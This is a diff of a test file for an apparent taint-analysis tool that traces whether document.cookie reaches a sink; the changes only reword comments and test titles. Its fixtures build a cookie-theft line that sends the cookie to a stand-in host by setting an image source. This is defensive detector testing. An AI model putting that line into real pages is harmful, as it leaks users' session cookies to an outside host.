@@ -4,7 +4,7 @@ import { codeOf, readCode, taintNames } from '../fixtures/read-code.ts';
 import { findFieldGuards } from './field-guards.ts';
 import { findFlows, traceFlows } from './flow-finder.ts';
 
-/** What arrives at the sinks of a script. */
+/** The data that reaches the sinks of a script. */
 function flowsIn(code: string): string[] {
   const reading = readCode(code);
   return findFlows(reading, findFieldGuards(reading))
@@ -12,10 +12,10 @@ function flowsIn(code: string): string[] {
     .map(({ sink, bits }) => `${taintNames(bits)} -> ${sink}`);
 }
 
-/** A script that sends `x`, after all else. */
+/** A script that sends `x` at its end. */
 const sending = (code: string): string => `${code} new Image().src = '//x.test/?' + x;`;
 
-describe('flow finder: ways to a sink', () => {
+describe('flow finder: paths to a sink', () => {
   const cookie = ['cookie wholeCookie -> image'];
   const cases: Readonly<Record<string, readonly string[]>> = {
     'const x = document.cookie;': cookie,
@@ -31,7 +31,7 @@ describe('flow finder: ways to a sink', () => {
     'const f = () => document.cookie; const x = f();': cookie,
     'function f() { return document.cookie; } const x = f();': cookie,
     'function f(a) { return a; } const x = f(document.cookie);': [
-      // By way of the argument it is a part only; by way of the parameter it is all.
+      // Through the argument only a part flows; through the parameter all of it.
       'cookie wholeCookie -> image',
     ],
     'function* f() { yield document.cookie; } const x = f();': cookie,
@@ -63,7 +63,7 @@ describe('flow finder: ways to a sink', () => {
   }
 });
 
-describe('flow finder: what a flow is', () => {
+describe('flow finder: members of a flow', () => {
   const described = (code: string): string[] => {
     const reading = readCode(code);
     return findFlows(reading, findFieldGuards(reading)).map(
